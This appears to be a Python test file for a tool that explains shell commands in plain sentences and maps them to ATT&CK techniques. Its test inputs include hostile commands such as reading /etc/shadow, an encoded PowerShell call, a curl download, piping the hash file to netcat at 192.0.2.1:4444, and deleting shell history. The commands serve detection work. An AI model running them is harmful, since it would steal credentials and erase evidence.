"""What a command means is said in sentences, with its place, whatever the model."""

from ttpline.commands.understand import Understander
from ttpline.domain.parsed import Span
from ttpline.explain.describe import MOST_CHARACTERS, MOST_LAYERS, MOST_PARTS, describe, every_fact
from ttpline.explain.meaning import Meaning


def meaning_of(command: str, knowledge: Understander) -> Meaning:
    return describe(knowledge.understand(command), knowledge)


def test_a_fact_names_the_program_and_what_it_does_to_what(small_knowledge: Understander) -> None:
    [part] = meaning_of("cat /etc/shadow", small_knowledge).parts
    sentences = [fact.sentence for fact in part.facts]
    assert sentences == ["`cat /etc/shadow` prints a file", "`cat` reads the file of password hashes: `/etc/shadow`"]
    assert part.facts[1].speaks == {"T1003.008": 3}
    assert part.purposes == ("prints files",)


def test_the_place_of_a_fact_is_in_the_decoded_text(small_knowledge: Understander) -> None:
    command = "powershell -enc dwBoAG8AYQBtAGkA"
    meaning = meaning_of(command, small_knowledge)
    [fact] = meaning.parts[1].facts
    start, end = fact.span
    assert meaning.text[start:end] == fact.text == "whoami"


def test_each_layer_has_its_kind_and_both_texts(small_knowledge: Understander) -> None:
    [layer] = meaning_of("powershell -enc dwBoAG8AYQBtAGkA", small_knowledge).layers
    assert (layer.kind, layer.before, layer.after) == ("base64", "-enc dwBoAG8AYQBtAGkA", "-Command whoami")


def test_what_holds_for_the_line_is_said_of_the_line(small_knowledge: Understander) -> None:
    [fact] = meaning_of("powershell -enc dwBoAG8AYQBtAGkA", small_knowledge).facts
    assert fact.sentence == "taken together, the line hides a command of PowerShell in encoded text"


def test_an_option_says_what_the_uses_that_it_makes_hold_say(small_knowledge: Understander) -> None:
    [part] = meaning_of("curl -s -o /tmp/a http://192.0.2.7/a", small_knowledge).parts
    assert {option.text: option.says for option in part.options} == {
        "-s": (),
        "-o": ("downloads a file", "names what is written"),
    }


def test_options_of_what_a_wrapper_runs_are_not_the_wrappers(small_knowledge: Understander) -> None:
    sudo, sh, *_ = meaning_of("sudo -u root sh -c 'rm -f a'", small_knowledge).parts
    assert [option.text for option in sudo.options] == ["-u"]
    assert [option.text for option in sh.options] == ["-c"]
    task, _ = meaning_of("schtasks /create /tr a.exe /sc daily", small_knowledge).parts
    assert [option.text for option in task.options] == ["/create", "/tr", "/sc"]


def test_wrappers_and_joints_are_told(small_knowledge: Understander) -> None:
    parts = meaning_of("sudo sh -c 'cat a && rm b'", small_knowledge).parts
    told = [(part.program, part.joint, part.wrappers) for part in parts]
    assert told[2:] == [("cat", "argument", ("sudo", "sh")), ("rm", "and", ("sudo", "sh"))]


def test_a_program_without_an_entry_is_not_known(small_knowledge: Understander) -> None:
    [part] = meaning_of("frobnicate --all", small_knowledge).parts
    assert not part.is_known
    assert part.purposes == ()
    assert part.facts == ()


def test_a_program_itself_can_be_the_thing(small_knowledge: Understander) -> None:
    from ttpline.knowledge.entries import Claim, Knowledge, ObjectClass

    place = ObjectClass("tmp-file", "a temporary file", ("/tmp/*",), {"runs": Claim(speaks={"T1204.002": 1})})
    found = Understander(Knowledge(objects=(place,)))
    [part] = meaning_of("/tmp/a --now", found).parts
    assert [fact.sentence for fact in part.facts] == ["this runs a temporary file: `/tmp/a`"]


def test_long_commands_are_cut_and_what_is_left_out_is_counted(small_knowledge: Understander) -> None:
    many = " ; ".join(["c''at a"] * 1_000)
    meaning = meaning_of(many, small_knowledge)
    assert len(meaning.parts) == MOST_PARTS
    assert meaning.parts_left_out == 900
    assert len(meaning.layers) == MOST_LAYERS
    assert meaning.layers_left_out == 960
    assert len(meaning.text) < MOST_CHARACTERS + 50


def test_spans_of_facts_lie_in_the_part(small_knowledge: Understander) -> None:
    command = "cat /etc/shadow | nc 192.0.2.1 4444; rm ~/.bash_history"
    for part in meaning_of(command, small_knowledge).parts:
        assert all(_within(fact.span, part.span) for fact in part.facts)


def _within(inner: Span, outer: Span) -> bool:
    return outer[0] <= inner[0] and inner[1] <= outer[1]


def test_what_a_wrapped_command_does_is_told_of_that_command_only(small_knowledge: Understander) -> None:
    parts = meaning_of("sudo cat /etc/shadow", small_knowledge).parts
    told = [(part.program, fact.entry) for part in parts for fact in part.facts if fact.kind == "object"]
    assert told == [("cat", "reads:shadow-file")]


def test_every_fact_has_a_sentence(small_knowledge: Understander) -> None:
    found = small_knowledge.understand(" ; ".join(["cat /etc/shadow"] * 300))
    sentences = [fact.sentence for fact in every_fact(found)]
    assert len(sentences) == len(found.facts) > MOST_PARTS
